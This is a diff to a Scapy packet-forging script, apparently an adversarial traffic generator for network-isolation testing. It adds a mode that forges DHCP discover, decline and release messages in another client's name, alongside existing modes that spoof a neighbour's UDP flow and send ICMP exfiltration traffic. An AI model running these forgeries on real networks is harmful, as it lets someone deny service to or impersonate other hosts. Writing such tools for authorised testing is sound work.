@@ -10,9 +10,12 @@ icmp-exfil IFACE Z FLOWDST SPORT DPORT N
 same-tuple IFACE SRC DST SPORT DPORT N
                                      UDP SRC:SPORT -> DST:DPORT (a neighbour's live flow)
                                      from our MAC
+dhcp-as IFACE CHADDR TYPE IP N       DHCP TYPE (discover, decline, release) from
+                                     0.0.0.0 and our MAC, naming CHADDR as its client and
+                                     IP as the address (declined, released)
 """
 import sys
-from scapy.all import ARP, ICMP, IP, UDP, Ether, Raw, conf, get_if_addr, get_if_hwaddr, getmacbyip, sendp
+from scapy.all import ARP, BOOTP, DHCP, ICMP, IP, UDP, Ether, Raw, conf, get_if_addr, get_if_hwaddr, getmacbyip, sendp
 
 conf.verb = 0
 mode, iface = sys.argv[1], sys.argv[2]
@@ -42,6 +45,11 @@ elif mode == "icmp-exfil":
 elif mode == "same-tuple":
     src, dst, sport, dport, n = sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
     frame = Ether(src=mac, dst=gw_mac(dst)) / IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / Raw(b"evil same tuple")
+elif mode == "dhcp-as":
+    chaddr, kind, ip, n = sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6])
+    options = [("message-type", kind), ("requested_addr", ip), ("server_id", ip.rsplit(".", 1)[0] + ".1"), "end"]
+    bootp = BOOTP(op=1, chaddr=bytes.fromhex(chaddr.replace(":", "")) + b"\0" * 10, xid=0x5EED)
+    frame = Ether(src=mac, dst=bcast) / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / bootp / DHCP(options=options)
 else:
     sys.exit(f"unknown mode {mode}")
 sendp(frame, iface=iface, count=n, inter=0.01)
